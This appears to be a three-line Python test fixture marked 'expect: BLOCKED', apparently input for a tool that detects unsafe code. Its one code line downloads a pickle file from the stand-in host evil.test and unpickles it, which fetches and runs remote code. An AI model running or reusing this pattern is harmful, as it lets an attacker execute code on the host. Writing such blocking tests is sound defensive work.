# expect: BLOCKED
import pickle, urllib.request
obj = pickle.load(urllib.request.urlopen("http://evil.test/o.pkl"))
